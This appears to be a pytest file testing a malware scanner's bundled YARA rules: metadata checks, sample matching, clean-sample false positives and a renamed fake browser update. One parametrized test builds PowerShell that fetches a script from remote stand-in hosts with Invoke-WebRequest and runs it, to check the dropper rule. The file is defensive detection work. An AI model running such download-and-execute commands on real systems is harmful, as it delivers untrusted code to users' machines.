"""The bundled detection content: every rule is documented, names a sample, and matches it."""

from __future__ import annotations

from pathlib import Path

import pytest
import yara

from scanner import Scanner
from scanner.config import Settings
from scanner.models import Severity
from scanner.rules import EXTERNALS, bundled_rules_dir, find_rule_files

REPO = Path(__file__).resolve().parent.parent
REQUIRED_META = ("description", "author", "date", "reference", "severity", "score", "sample")


def _bundled_rules() -> list[tuple[str, dict[str, object]]]:
    files = find_rule_files([bundled_rules_dir() / "yara"])
    rules = yara.compile(filepaths={str(i): str(p) for i, p in enumerate(files)}, externals=EXTERNALS)
    return [(r.identifier, dict(r.meta)) for r in rules]


RULES = _bundled_rules()


@pytest.fixture(scope="module")
def scanner(tmp_path_factory: pytest.TempPathFactory) -> Scanner:
    return Scanner(Settings(cache_dir=str(tmp_path_factory.mktemp("cache")), result_cache=False))


def test_there_are_bundled_rules() -> None:
    assert len(RULES) >= 5


@pytest.mark.parametrize(("name", "meta"), RULES, ids=[r[0] for r in RULES])
def test_rule_has_required_meta(name: str, meta: dict[str, object]) -> None:
    missing = [k for k in REQUIRED_META if k not in meta]
    assert not missing, f"{name} lacks meta {missing}"
    assert str(meta["severity"]) in ("low", "medium", "high", "critical")
    assert 0 <= int(str(meta["score"])) <= 100


@pytest.mark.parametrize(("name", "meta"), RULES, ids=[r[0] for r in RULES])
def test_rule_matches_its_samples(name: str, meta: dict[str, object], scanner: Scanner) -> None:
    samples = [s.strip() for s in str(meta["sample"]).split(",") if s.strip()]
    assert samples, f"{name} names no sample"
    for sample in samples:
        path = REPO / sample
        assert path.is_file(), f"{name}: sample {sample} does not exist"
        report = scanner.scan_file(str(path))
        hits = {f.id for f in report.findings if f.check == "yara"}
        assert name in hits, f"{name} does not match its sample {sample} (got {sorted(hits)})"


def test_no_rule_fires_on_clean_samples(scanner: Scanner) -> None:
    clean = sorted(p for p in (REPO / "samples" / "clean").rglob("*") if p.is_file())
    assert clean
    for path in clean:
        report = scanner.scan_file(str(path))
        # a score-0 info record (which password opened a document) is a fact, not a rule firing
        fired = [f for f in report.findings if f.score != 0 or f.severity != Severity.INFO]
        assert not fired, f"{path.name}: {[f.id for f in fired]}"


def _conditions() -> list[tuple[str, str, str]]:
    """(rule, meta block, condition block) of every bundled rule, from the source text."""
    import re
    out = []
    for path in find_rule_files([bundled_rules_dir() / "yara"]):
        text = path.read_text(encoding="utf-8")
        for m in re.finditer(r"(?ms)^rule\s+(\w+).*?^\s*meta:(.*?)^\s*condition:(.*?)^\}", text):
            out.append((m.group(1), m.group(2), m.group(3)))
    return out


def test_rules_keyed_on_names_say_why() -> None:
    """Lures are renamed at will: a rule whose condition reads the file name either needs content
    as well or says (meta name_signal) why the name is the signal."""
    named = [(rule, meta) for rule, meta, cond in _conditions() if "filename" in cond or "filepath" in cond]
    assert named, "the bundled rules include name rules"
    undocumented = [rule for rule, meta in named if "name_signal" not in meta]
    assert not undocumented, f"rules keyed on file names without a name_signal: {undocumented}"


def test_renamed_socgholish_script_is_still_caught(scanner: Scanner, tmp_path: Path) -> None:
    """The issue's case: the fake browser update renamed from Chrome.Update.js to update.js."""
    data = (REPO / "samples/lures/droppers/update.js").read_bytes()
    for name in ("Chrome.Update.js", "update.js", "a.txt"):
        report = scanner.scan_bytes(data, name)
        assert report.verdict.value == "malicious", name


@pytest.mark.parametrize(("source", "flagged"), [
    ("http://127.0.0.1:8080/s.ps1", False), ("http://localhost/s.ps1", False), ("http://0.0.0.0:80/s", False),
    ("http://203.0.113.60/s.ps1", True), ("http://update-check.example/s.ps1", True),
    ("http://login.example/s.ps1", True), ("http://12.34.56.78/s", True),
])
def test_a_source_on_this_machine_is_not_a_download(scanner: Scanner, source: str, flagged: bool) -> None:
    """Without a size guard (padding walked past it), long real test scripts reached the dropper
    rule through their http://127.0.0.1 proxies; a loopback source is a test's, a remote one a dropper's."""
    script = f"# build helper\n$u = '{source}'\nInvoke-WebRequest -Uri $u -OutFile x.ps1\n& $u\n" + "# -\n" * 3000
    ids = {f.id for f in scanner.scan_bytes(script.encode(), "helper.ps1").findings}
    assert ("SCAM_Dropper_PS_Download_Execute_Stealth" in ids) is flagged, ids
